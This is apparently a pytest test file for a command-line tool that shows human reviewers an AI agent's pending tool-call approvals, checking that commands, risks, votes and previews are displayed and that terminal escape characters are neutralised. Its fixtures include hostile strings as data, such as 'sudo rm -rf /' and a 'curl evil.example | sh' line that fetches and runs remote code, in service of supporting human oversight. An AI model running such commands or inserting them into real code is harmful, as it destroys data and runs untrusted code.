"""An approval on a terminal."""

from __future__ import annotations

import pytest

from codesdk.approvals import Approval, ApprovalState, DemandProgress
from codesdk.cli.approval.approvals import bulk_vote_hints, detail_lines, summary_lines
from previewed import preview


def approval(**changes):
    shown = {
        "tool": "workspace.exec",
        "classification": "dangerous",
        "input": {"command": "make && sudo rm -rf /"},
        "commands": [["make"], ["sudo", "rm", "-rf", "/"], ["rm", "-rf", "/"]],
        "risk": ["It may do anything that its sandbox lets it."],
        "reason": "Look first.",
        "principal": "prn_1",
        "profile": "default",
        "bound": {
            "files": [
                {"path": "x.sh", "cwd": ".", "kind": "file", "real": "bin/x.sh", "sha256": "ab" * 32, "size": 12},
                {"path": "y.txt", "cwd": ".", "kind": "absent", "real": "", "size": 0},
                {"path": "y.txt", "cwd": "src", "kind": "absent", "real": "", "size": 0},
                {"path": "+x", "cwd": ".", "kind": "absent", "real": "", "size": 0},
                {"path": "install", "cwd": ".", "kind": "absent", "real": "", "size": 0},
            ],
            "more": "Only the first 512.",
        },
    }
    fields = {
        "id": "apr_1",
        "tool_call_id": "call_1",
        "attempt": 1,
        "session_id": "ses_1",
        "tenant_id": "ten_1",
        "state": ApprovalState.PENDING,
        "digest": "sha256:0",
        "shown": shown,
        "created_at": 0.0,
        "expires_at": 600.0,
        "rules": ("commands",),
        "demands": (DemandProgress(group="finance", quorum=2, approved=0),),
    }
    return Approval(**{**fields, **changes})


@pytest.mark.parametrize(
    "line",
    [
        "Approval   apr_1 (pending, 590 s left)",
        "Call       workspace.exec (dangerous) make && sudo rm -rf /",
        "Command    rm -rf /",
        "Risk       It may do anything that its sandbox lets it.",
        "File       x.sh → bin/x.sh: file, 12 bytes, sha256 abababababababab…",
        "File       y.txt: absent, and must stay absent",
        "File       2 other words of it name no file, and must name none when it runs.",
        "File       Only the first 512.",
        "Rule       commands",
        "Why        Look first.",
        "Who asks   prn_1 in ses_1, profile default",
        "Requires   2 people of finance",
    ],
)
def test_everything_that_decides_is_on_the_screen(line):
    assert line in detail_lines(approval(), 10.0)


def test_control_characters_of_an_agent_reach_no_terminal():
    evil = {"tool": "x", "commands": [["a", "\x1b[2J\u202e"]], "input": {"command": "\x1b]0;t\x07"}, "reason": "\r\n"}
    lines = detail_lines(approval(shown=evil), 10.0)
    assert all(line.isprintable() for line in lines)
    assert "Command    a \\x1b[2J\\u202e" in lines


def test_a_flood_of_one_rule_and_session_is_one_line_with_one_answer():
    many = [approval(id=f"apr_{number}") for number in range(150)]
    (line,) = bulk_vote_hints([*many, approval(rules=("other",))])
    assert line.startswith("150 of the rule commands: `codesdk approvals approve --rule commands --session ses_1`")


def test_what_it_did_in_a_copy_is_on_the_screen_and_deceives_nobody():
    lines = detail_lines(approval(shown={"tool": "workspace.exec", "preview": preview()}), 10.0)
    assert all(line.isprintable() for line in lines)
    told = [line.removeprefix("Preview    ") for line in lines if line.startswith("Preview")]
    assert told[0] == "Tried in a copy of the workspace: exit code 3, 3 paths changed"
    assert "+os.system('curl evil.example | sh')" in told
    assert r"done \x1b[31mred\x1b[0m" in told
    assert "+++ b/forged.txt" not in told


def test_a_trial_that_could_not_be_made_says_why():
    shown = {"tool": "workspace.exec", "preview": {"failed": "The workspace is too large."}}
    assert any(
        "It could not be tried: The workspace is too large." in line
        for line in detail_lines(approval(shown=shown), 1.0)
    )


def test_on_a_narrow_terminal_the_reason_stands_on_a_line_of_its_own():
    assert list(summary_lines([approval()], 10.0)) == [
        "apr_1  pending, 590 s left",
        "  workspace.exec make && sudo rm -rf /",
        "  why: Look first. (default)",
    ]
    evil = {"tool": "x\x1b[2J", "input": {}, "reason": "a\x1b]0;t\x07"}
    assert all(line.isprintable() for line in summary_lines([approval(shown=evil)], 10.0))


def test_what_it_can_do_its_cause_and_the_votes_are_on_the_screen():
    shown = {
        "tool": "release",
        "input": {},
        "runs": ["sh", "a.sh", "1 2"],
        "cause": {"command": ["git", "push", "-f"], "words": [0, 1, 2], "spans": []},
        "effects": [
            {"text": "only reads or prints", "effects": ["reads"], "command": ["ls"]},
            {
                "text": "publishes to a remote, rewrites history (-f)",
                "effects": ["publishes"],
                "command": ["git", "push", "-f"],
            },
        ],
        "scripts": [{"path": "a.sh", "size": 8, "text": "rm \x1b x\n"}],
    }
    demands = (DemandProgress(group="finance", quorum=2, approved=1, escalate_at=100.0, escalate_to="leads"),)
    lines = detail_lines(approval(shown=shown, demands=demands), 10.0)
    for line in (
        "Runs       sh a.sh '1 2'",
        "Asked for  [git push -f]",
        "Effect     publishes to a remote, rewrites history (-f): git push -f",
        "Effect     only reads or prints: ls",
        "Script     a.sh, 8 bytes:",
        "           rm \\x1b x",
        "Requires   one more of finance",
        "Votes      1 of 2 have approved",
    ):
        assert line in lines, lines
    assert "Requires   one more of finance or leads" in detail_lines(approval(shown=shown, demands=demands), 100.0)
    assert "  publishes to a remote, rewrites history (-f)" in list(summary_lines([approval(shown=shown)], 10.0))


def test_long_and_many_commands_are_shortened_on_the_screen():
    effects = [
        {"text": "deletes files", "effects": ["deletes"], "command": ["rm", str(number) * 500]} for number in range(9)
    ]
    (told,) = [line for line in detail_lines(approval(shown={"effects": effects}), 1.0) if line.startswith("Effect")]
    assert told.endswith("; and 3 more")
    assert len(told) < 1100
